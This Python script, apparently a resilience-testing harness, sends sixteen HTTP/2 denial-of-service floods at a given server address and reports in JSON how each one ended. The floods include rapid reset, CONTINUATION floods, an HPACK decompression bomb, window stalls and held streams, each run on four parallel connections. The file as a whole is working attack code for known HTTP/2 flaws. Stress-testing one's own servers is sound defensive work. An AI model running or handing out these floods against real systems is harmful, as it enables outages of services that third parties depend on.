"""Floods over HTTP/2: `h2_floods.py 127.0.0.1:8000 [SECONDS [NAME]]`. Prints JSON: how each ended and how much was sent.

Every flood runs on four connections at once, each for at most SECONDS (3) and FRAMES_MAX frames, and never reads faster than
it must: only `rapid reset` and its kin take what comes back.
"""

import json
import select
import struct
import sys
import threading
import time

from hyperframe.frame import (
    ContinuationFrame, DataFrame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
    WindowUpdateFrame,
)
from raw_h2 import Connection, head

FRAMES_MAX = 200_000
CONNECTIONS = 4
PAD = bytes(8000)


def pour(connection, batches, deadline):
    """Writes until refused, out of time or out of frames. Returns the frames written and how it ended."""
    sent = 0
    connection.socket.setblocking(False)
    for frames in batches:
        wire = b"".join(frame if isinstance(frame, bytes) else frame.serialize() for frame in frames)
        while wire:
            left = deadline - time.monotonic()
            if left <= 0 or sent >= FRAMES_MAX:
                return sent, "still open"
            readable, writable, _ = select.select([connection.socket], [connection.socket], [], left)
            try:
                if readable and connection.reads:
                    connection.fill()
                    ended = goaway(connection)
                    if ended:
                        return sent, ended
                elif readable and not writable:
                    # Nothing is read, so a close is found by writing only.
                    time.sleep(0.01)
                if writable:
                    wire = wire[connection.socket.send(wire) :]
            except (EOFError, ConnectionError):
                return sent, goaway(connection) or "closed"
        sent += len(frames)
    return sent, "all sent"


def goaway(connection):
    """Looks at whole frames that came back; names the code of a GOAWAY that is an error."""
    buffer = connection.buffer
    while len(buffer) >= 9:
        length = int.from_bytes(buffer[:3], "big")
        if len(buffer) < 9 + length:
            break
        if buffer[3] == 7:
            code = struct.unpack("!L", buffer[13:17])[0]
            if code:
                return f"goaway {code}"
        buffer = buffer[9 + length :]
    connection.buffer = buffer
    return None


def headers(connection, stream, fields, **flags):
    block = connection.encoder.encode([(name.encode(), value.encode()) for name, value in fields])
    return HeadersFrame(stream, block, flags=flags.get("flags", ["END_HEADERS", "END_STREAM"]))


def rapid_reset(connection):
    connection.reads = True
    while True:
        stream = connection.next_stream()
        yield [headers(connection, stream, head("/slow")), RstStreamFrame(stream, error_code=8)]


def made_reset(connection):
    """Streams that the server has to reset itself: a window update of zero (RFC 9113 §6.9)."""
    connection.reads = True
    while True:
        stream = connection.next_stream()
        update = struct.pack("!HBBBLL", 0, 4, 8, 0, stream, 0)
        yield [headers(connection, stream, head("/slow", "POST"), flags=["END_HEADERS"]), update]


def continuation(connection):
    stream = connection.next_stream()
    yield [headers(connection, stream, head(), flags=[])]
    field = b"\x40\x01x\x7f\x80\x3e" + b"y" * 8063
    while True:
        yield [ContinuationFrame(stream, field)]


def empty_continuation(connection):
    stream = connection.next_stream()
    yield [headers(connection, stream, head(), flags=[])]
    while True:
        yield [ContinuationFrame(stream, b"")] * 100


def settings(_connection):
    while True:
        yield [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})] * 100


def ping(_connection):
    while True:
        yield [PingFrame(0, b"12345678")] * 100


def window_update(_connection):
    while True:
        yield [WindowUpdateFrame(0, window_increment=1)] * 100


def priority(_connection):
    number = 1
    while True:
        number += 200
        yield [PriorityFrame(number + 2 * index, depends_on=0, stream_weight=1) for index in range(100)]


def unknown_frames(_connection):
    while True:
        yield [struct.pack("!HBBBL", 0, 0, 0xEE, 0, 0)] * 100


def empty_data(connection):
    stream = connection.next_stream()
    yield [headers(connection, stream, head("/upload", "POST"), flags=["END_HEADERS"])]
    while True:
        yield [DataFrame(stream, b"")] * 100


def padded_data(connection):
    stream = connection.next_stream()
    yield [headers(connection, stream, head("/upload", "POST"), flags=["END_HEADERS"])]
    while True:
        yield [DataFrame(stream, b"", pad_length=255, flags=["PADDED"])] * 10


def header_flood(connection):
    """Heads of 20,000 small fields, compressed to a byte each."""
    connection.reads = True
    fields = [*head(), *[("x", "y")] * 20_000]
    while True:
        stream = connection.next_stream()
        block = connection.encoder.encode([(name.encode(), value.encode()) for name, value in fields])
        parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
        frames = [HeadersFrame(stream, parts[0], flags=["END_STREAM"])]
        frames += [ContinuationFrame(stream, part) for part in parts[1:]]
        frames[-1].flags.add("END_HEADERS")
        yield frames


def hpack_bomb(connection):
    """One field of 3.9 KiB in the dynamic table, asked for 16,000 times in each head: 62 MiB if it were unpacked."""
    connection.reads = True
    stream = connection.next_stream()
    yield [headers(connection, stream, [*head(), ("bomb", "b" * 3900)])]
    prefix = b"\x82\x86\x84\x41\x06a.test"
    while True:
        stream = connection.next_stream()
        yield [HeadersFrame(stream, prefix + b"\xbe" * 16000, flags=["END_HEADERS", "END_STREAM"])]


def window_stall(connection):
    """Large answers, and no window for one byte of them."""
    connection.reads = False
    for _ in range(100):
        yield [headers(connection, connection.next_stream(), head("/large"))]


def slow_head(connection):
    """A head that never ends, and silence."""
    yield [headers(connection, connection.next_stream(), head(), flags=[])]


def streams_held(connection):
    """As many requests as fit, whose content never comes."""
    for _ in range(1000):
        yield [headers(connection, connection.next_stream(), head("/upload", "POST"), flags=["END_HEADERS"])]


FLOODS = [
    rapid_reset, made_reset, continuation, empty_continuation, settings, ping, window_update, priority, unknown_frames,
    empty_data, padded_data, header_flood, hpack_bomb, window_stall, slow_head, streams_held,
]


def attack(flood, address, deadline, outcomes):
    window = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if flood is window_stall else None
    try:
        connection = Connection(address, window)
        connection.reads = False
        sent, outcome = pour(connection, flood(connection), deadline)
        if outcome == "all sent":
            # What was asked is held for the rest of the time.
            time.sleep(max(0, deadline - time.monotonic()))
        connection.close()
    except (EOFError, OSError) as error:
        sent, outcome = 0, f"refused: {error}"
    outcomes.append({"sent": sent, "ended": outcome})


def main(address, seconds="3", only=""):
    report = {}
    for flood in FLOODS:
        if only not in flood.__name__:
            continue
        outcomes, deadline = [], time.monotonic() + float(seconds)
        threads = [
            threading.Thread(target=attack, args=(flood, address, deadline, outcomes)) for _ in range(CONNECTIONS)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        report[flood.__name__] = outcomes
    print(json.dumps(report))


main(*sys.argv[1:])
